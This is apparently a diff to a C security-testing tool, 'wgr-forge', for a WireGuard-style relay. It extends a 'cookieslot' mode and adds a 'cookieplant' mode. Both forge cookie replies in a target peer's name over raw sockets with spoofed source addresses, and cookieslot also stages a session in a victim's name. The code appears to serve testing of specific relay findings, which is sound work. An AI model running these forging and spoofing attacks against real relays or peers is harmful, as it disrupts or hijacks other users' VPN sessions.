@@ -80,6 +80,13 @@
  * Prints "forging from now on" once staged; exits 0 if it forged any. SIGTERM
  * ends it early, with its report.
  *
+ *   wgr-forge cookieplant ADDR PORT SECONDS PUB_TARGET TARGET_ADDR TARGET_PORT
+ *
+ * A wrong cookie planted at TARGET's own endpoint (helper-81, K1): once a
+ * second, an initiation for TARGET without mac2 and at once two cookie replies
+ * to it spoofed "from" TARGET_ADDR:TARGET_PORT, sealed in TARGET's name. Needs
+ * CAP_NET_RAW. SIGTERM ends it early; exits 0 if it spoofed any.
+ *
  *   wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]
  *
  * One type-4 message on receiver INDEX (hex, as /proc/net/wgrelay prints it)
@@ -873,141 +880,6 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 	return 0;
 }
 
-/*
- * cookieslot: first a staging as hold's: B initiates to BAIT (a discovery
- * candidate then), A to TARGET, every 5 s until A's tries with the relay's mac2
- * are failing and copied to B, which answers in VICTIM's name; A confirms. The
- * relay then has a session of TARGET's at B, and a pair route from A to it.
- * From then on A initiates to TARGET once a second without mac2, which the
- * route takes to B alone (TARGET never sees them, so never answers them), and B
- * answers each with two cookie replies sealed in TARGET's name, 30 ms and
- * 300 ms later. Data on both staged indices every 5 s keeps the session live.
- */
-#define SLOT_QUEUE 64
-#define SLOT_SENT 8
-
-/* SIGTERM ends cookieslot early, with its report: a test stops it when done. */
-static volatile sig_atomic_t slot_stop;
-
-static void slot_term(int sig)
-{
-	(void)sig;
-	slot_stop = 1;
-}
-
-static int cookieslot(int argc, char **argv)
-{
-	struct { double due; uint32_t sender; uint8_t mac1[16]; } q[SLOT_QUEUE];
-	uint32_t r_index = 0, sent_idx[SLOT_SENT] = { 0 }, idx;
-	long seconds = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
-	long routed = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
-	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
-	double start, next_routed = 0, next_data = 0;
-	struct sockaddr_storage ss = { 0 };
-	uint8_t k[3][32], msg[1600];	/* bait, target, victim */
-	unsigned int q_len = 0, n_sent = 0;
-	struct staging st = { 0 };	/* phase 4: staged */
-	uint64_t counter = 1;
-	socklen_t sslen;
-
-	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
-	    !parse_keys(k, argv + 5, 3)) {
-		fprintf(stderr, "usage: wgr-forge cookieslot ADDR PORT SECONDS(1..3600) "
-				"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
-		return 2;
-	}
-	signal(SIGTERM, slot_term);
-	hs[0].fd = stage_socket(&ss, sslen);
-	hs[1].fd = stage_socket(&ss, sslen);
-	start = now_s();
-	while (!slot_stop && now_s() - start < seconds) {
-		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
-					 { .fd = hs[1].fd, .events = POLLIN } };
-		double t = now_s();
-
-		if (st.phase < 4)
-			staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
-		if (st.phase == 4 && t >= next_routed) {
-			/* No mac2: the pair route, not the binding, takes it. */
-			fill_random(&idx, sizeof(idx));
-			initiation_from(msg, k[1], idx);
-			memset(msg + 132, 0, 16);
-			if (send(hs[0].fd, msg, 148, 0) >= 0)
-				routed++;
-			sent_idx[n_sent++ % SLOT_SENT] = idx;
-			next_routed = t + 1;
-		}
-		if (st.phase == 4 && t >= next_data) {
-			make_data(msg, r_index, counter);
-			send(hs[0].fd, msg, 32, 0);
-			make_data(msg, st.s_index, counter++);
-			send(hs[1].fd, msg, 32, 0);
-			next_data = t + 5;
-		}
-		for (unsigned int j = 0; j < q_len;) {
-			if (q[j].due > t) {
-				j++;
-				continue;
-			}
-			cookie_forge(msg, q[j].sender, q[j].mac1, k[1]);
-			if (send(hs[1].fd, msg, 64, 0) >= 0)
-				forged++;
-			q[j] = q[--q_len];
-		}
-		if (poll(pfd, 2, 5) <= 0)
-			continue;
-		for (int i = 0; i < 2; i++) {
-			ssize_t n;
-
-			if (!(pfd[i].revents & POLLIN))
-				continue;
-			n = recv(hs[i].fd, msg, sizeof(msg), MSG_DONTWAIT);
-			if (i == 1 && n == 148 && msg[0] == 1) {
-				uint32_t sender = get_le32(msg + 4);
-				bool ours = false;
-
-				copies++;
-				for (unsigned int j = 0; j < SLOT_SENT; j++)
-					ours |= n_sent && sent_idx[j] == sender;
-				if (st.phase == 2 && sender == st.s_index) {
-					/* Our own staged initiation: answer as VICTIM's partner. */
-					r_index = make_response(msg, st.s_index, k[2]);
-					send(hs[1].fd, msg, 92, 0);
-					st.phase = 3;
-				} else if (st.phase == 4 && ours && initiation_for(msg, k[1]) &&
-					   q_len + 2 <= SLOT_QUEUE) {
-					for (int a = 0; a < 2; a++) {
-						q[q_len].due = t + (a ? 0.3 : 0.03);
-						q[q_len].sender = sender;
-						memcpy(q[q_len++].mac1, msg + 116, 16);
-					}
-				}
-			} else if (n == 64 && msg[0] == 3 && hs[i].last_pub &&
-				   get_le32(msg + 4) == hs[i].last_sender) {
-				/* The relay's cookie: its key is the target's public key. */
-				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
-				hs[i].cookie_time = now_s();
-				cookies++;
-			} else if (i == 0 && n == 92 && msg[0] == 2 && st.phase == 3 &&
-				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
-				/* The relay passed our response on: confirm it. */
-				make_data(msg, r_index, 0);
-				send(hs[0].fd, msg, 32, 0);
-				st.phase = 4;
-				next_data = t + 5;
-				printf("cookieslot: staged after %ld tries: forging from now on\n", st.tries);
-				fflush(stdout);
-			}
-		}
-	}
-	printf("cookieslot: %ld stagings tried, %s; %ld relay cookies, %ld initiations with "
-	       "mac2; %ld routed initiations for the target, %ld initiations received at B, "
-	       "%ld cookie replies forged in the target's name\n", st.tries,
-	       st.phase == 4 ? "one passed" : "none passed", cookies, with_mac2, routed, copies,
-	       forged);
-	return forged ? 0 : 1;
-}
-
 static int onedata(int argc, char **argv)
 {
 	struct sockaddr_storage to;
@@ -1117,6 +989,230 @@ static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
 	if (sendto(s->fd, pkt, hl + 8 + plen, 0, (struct sockaddr *)&dst, s->len) < 0)
 		return perror("wgr-forge: spoof: sendto"), 1;
 	return 0;
+}
+
+/*
+ * cookieslot: first a staging as hold's: B initiates to BAIT (a discovery
+ * candidate then), A to TARGET, every 5 s until A's tries with the relay's mac2
+ * are failing and copied to B, which answers in VICTIM's name; A confirms. The
+ * relay then has a session of TARGET's at B, and a pair route from A to it.
+ * From then on A initiates to TARGET once a second without mac2, which the
+ * route takes to B alone (TARGET never sees them, so never answers them), and B
+ * answers each with two cookie replies sealed in TARGET's name, 30 ms and
+ * 300 ms later. Data on both staged indices every 5 s keeps the session live.
+ *
+ * With @argv[8] and [9], TARGET's own endpoint E (helper-82, P1): once a second
+ * socket C also sends TARGET an initiation without mac2, and at once a cookie
+ * reply to it spoofed "from" E (so that the relay probes E and waits for E's
+ * answer); and every probe of the relay's that reaches B is answered 300 ms
+ * later (after E's own answer) by a reply spoofed "from" E, sealed with that
+ * probe's mac1 around a cookie of the attacker's.
+ */
+#define SLOT_QUEUE 64
+#define SLOT_SENT 8
+
+/* SIGTERM ends cookieslot early, with its report: a test stops it when done. */
+static volatile sig_atomic_t slot_stop;
+
+static void slot_term(int sig)
+{
+	(void)sig;
+	slot_stop = 1;
+}
+
+static int cookieslot(int argc, char **argv)
+{
+	struct { double due; uint32_t sender; uint8_t mac1[16]; bool spoof; } q[SLOT_QUEUE];
+	uint32_t r_index = 0, sent_idx[SLOT_SENT] = { 0 }, idx;
+	long seconds = argc == 8 || argc == 10 ? strtol(argv[4], NULL, 10) : 0;
+	long routed = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
+	long probes = 0, planted = 0;
+	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
+	double start, next_routed = 0, next_data = 0;
+	struct spoofer from_target;
+	int c_fd = -1;
+	struct sockaddr_storage ss = { 0 };
+	uint8_t k[3][32], msg[1600];	/* bait, target, victim */
+	unsigned int q_len = 0, n_sent = 0;
+	struct staging st = { 0 };	/* phase 4: staged */
+	uint64_t counter = 1;
+	socklen_t sslen;
+
+	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
+	    !parse_keys(k, argv + 5, 3)) {
+		fprintf(stderr, "usage: wgr-forge cookieslot ADDR PORT SECONDS(1..3600) "
+				"PUB_BAIT PUB_TARGET PUB_VICTIM [TARGET_ADDR TARGET_PORT]\n");
+		return 2;
+	}
+	if (argc == 10) {
+		if (spoofer_open(&from_target, argv[8], argv[9], argv[2], argv[3]))
+			return 1;
+		c_fd = stage_socket(&ss, sslen);
+	}
+	signal(SIGTERM, slot_term);
+	hs[0].fd = stage_socket(&ss, sslen);
+	hs[1].fd = stage_socket(&ss, sslen);
+	start = now_s();
+	while (!slot_stop && now_s() - start < seconds) {
+		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
+					 { .fd = hs[1].fd, .events = POLLIN } };
+		double t = now_s();
+
+		if (st.phase < 4)
+			staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
+		if (st.phase == 4 && t >= next_routed) {
+			/* No mac2: the pair route, not the binding, takes it. */
+			fill_random(&idx, sizeof(idx));
+			initiation_from(msg, k[1], idx);
+			memset(msg + 132, 0, 16);
+			if (send(hs[0].fd, msg, 148, 0) >= 0)
+				routed++;
+			sent_idx[n_sent++ % SLOT_SENT] = idx;
+			next_routed = t + 1;
+			if (c_fd >= 0) {
+				/* The relay probes E, and waits for its answer. */
+				uint8_t reply[64];
+
+				idx = make_initiation(msg, k[1]);
+				memset(msg + 132, 0, 16);
+				send(c_fd, msg, 148, 0);
+				cookie_forge(reply, idx, msg + 116, k[1]);
+				if (!spoofer_send(&from_target, reply, sizeof(reply)))
+					planted++;
+			}
+		}
+		if (st.phase == 4 && t >= next_data) {
+			make_data(msg, r_index, counter);
+			send(hs[0].fd, msg, 32, 0);
+			make_data(msg, st.s_index, counter++);
+			send(hs[1].fd, msg, 32, 0);
+			next_data = t + 5;
+		}
+		for (unsigned int j = 0; j < q_len;) {
+			if (q[j].due > t) {
+				j++;
+				continue;
+			}
+			cookie_forge(msg, q[j].sender, q[j].mac1, k[1]);
+			if (q[j].spoof) {
+				if (!spoofer_send(&from_target, msg, 64))
+					planted++;
+			} else if (send(hs[1].fd, msg, 64, 0) >= 0) {
+				forged++;
+			}
+			q[j] = q[--q_len];
+		}
+		if (poll(pfd, 2, 5) <= 0)
+			continue;
+		for (int i = 0; i < 2; i++) {
+			ssize_t n;
+
+			if (!(pfd[i].revents & POLLIN))
+				continue;
+			n = recv(hs[i].fd, msg, sizeof(msg), MSG_DONTWAIT);
+			if (i == 1 && n == 148 && msg[0] == 1) {
+				uint32_t sender = get_le32(msg + 4);
+				bool ours = false;
+
+				copies++;
+				for (unsigned int j = 0; j < SLOT_SENT; j++)
+					ours |= n_sent && sent_idx[j] == sender;
+				if (st.phase == 2 && sender == st.s_index) {
+					/* Our own staged initiation: answer as VICTIM's partner. */
+					r_index = make_response(msg, st.s_index, k[2]);
+					send(hs[1].fd, msg, 92, 0);
+					st.phase = 3;
+				} else if (st.phase == 4 && ours && initiation_for(msg, k[1]) &&
+					   q_len + 2 <= SLOT_QUEUE) {
+					for (int a = 0; a < 2; a++) {
+						q[q_len].due = t + (a ? 0.3 : 0.03);
+						q[q_len].sender = sender;
+						q[q_len].spoof = false;
+						memcpy(q[q_len++].mac1, msg + 116, 16);
+					}
+				} else if (st.phase == 4 && c_fd >= 0 && !ours &&
+					   initiation_for(msg, k[1]) && q_len < SLOT_QUEUE) {
+					/* The relay's probe of B: answered "from" E. */
+					probes++;
+					q[q_len].due = t + 0.3;
+					q[q_len].sender = sender;
+					q[q_len].spoof = true;
+					memcpy(q[q_len++].mac1, msg + 116, 16);
+				}
+			} else if (n == 64 && msg[0] == 3 && hs[i].last_pub &&
+				   get_le32(msg + 4) == hs[i].last_sender) {
+				/* The relay's cookie: its key is the target's public key. */
+				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
+				hs[i].cookie_time = now_s();
+				cookies++;
+			} else if (i == 0 && n == 92 && msg[0] == 2 && st.phase == 3 &&
+				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
+				/* The relay passed our response on: confirm it. */
+				make_data(msg, r_index, 0);
+				send(hs[0].fd, msg, 32, 0);
+				st.phase = 4;
+				next_data = t + 5;
+				printf("cookieslot: staged after %ld tries: forging from now on\n", st.tries);
+				fflush(stdout);
+			}
+		}
+	}
+	printf("cookieslot: %ld stagings tried, %s; %ld relay cookies, %ld initiations with "
+	       "mac2; %ld routed initiations for the target, %ld initiations received at B, "
+	       "%ld cookie replies forged in the target's name\n", st.tries,
+	       st.phase == 4 ? "one passed" : "none passed", cookies, with_mac2, routed, copies,
+	       forged);
+	if (c_fd >= 0)
+		printf("cookieslot: %ld probes received at B; %ld cookie replies spoofed from the "
+		       "target's endpoint\n", probes, planted);
+	return forged ? 0 : 1;
+}
+
+/*
+ * cookieplant: from socket A, an initiation for TARGET once a second (no mac2:
+ * the relay forwards it to TARGET's binding with zeros, and records it), and at
+ * once two cookie replies to it spoofed "from" TARGET's endpoint, sealed in
+ * TARGET's name around a cookie of the attacker's. They reach the relay before
+ * TARGET's own reply, which then finds the endpoint's two answers spent.
+ */
+static int cookieplant(int argc, char **argv)
+{
+	long seconds = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
+	struct sockaddr_storage ss = { 0 };
+	uint8_t pub[32], msg[148], reply[64];
+	long sent = 0, planted = 0;
+	struct spoofer from;
+	socklen_t sslen;
+	double start;
+	int fd;
+
+	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
+	    !key_from_base64(pub, argv[5])) {
+		fprintf(stderr, "usage: wgr-forge cookieplant ADDR PORT SECONDS(1..3600) PUB_TARGET "
+				"TARGET_ADDR TARGET_PORT\n");
+		return 2;
+	}
+	if (spoofer_open(&from, argv[6], argv[7], argv[2], argv[3]))
+		return 1;
+	signal(SIGTERM, slot_term);
+	fd = stage_socket(&ss, sslen);
+	start = now_s();
+	while (!slot_stop && now_s() - start < seconds) {
+		uint32_t idx = make_initiation(msg, pub);
+
+		memset(msg + 132, 0, 16);
+		if (send(fd, msg, sizeof(msg), 0) >= 0)
+			sent++;
+		for (int i = 0; i < 2; i++) {
+			cookie_forge(reply, idx, msg + 116, pub);
+			if (!spoofer_send(&from, reply, sizeof(reply)))
+				planted++;
+		}
+		usleep(1000000);
+	}
+	printf("cookieplant: %ld initiations for the target, %ld cookie replies spoofed from its "
+	       "endpoint\n", sent, planted);
+	return planted ? 0 : 1;
 }
 
 static int spoof(int argc, char **argv)
@@ -1794,6 +1890,8 @@ int main(int argc, char *argv[])
 		return onedata(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "cookieslot"))
 		return cookieslot(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "cookieplant"))
+		return cookieplant(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoof"))
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "srcflood"))
